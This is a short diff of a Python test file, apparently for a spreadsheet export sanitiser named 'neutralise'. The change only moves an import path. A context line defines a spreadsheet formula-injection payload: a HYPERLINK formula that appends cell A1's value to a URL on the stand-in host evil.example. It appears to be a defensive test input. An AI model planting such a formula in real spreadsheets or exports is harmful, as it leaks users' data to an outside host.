@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from catalogue.spreadsheet import neutralise
 from tests.auth_helpers import make_moderator, make_user
-from tests.cto.conftest import log_in, make_territory
+from tests.web.cto.conftest import log_in, make_territory
 from web.commands.export import write_export
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
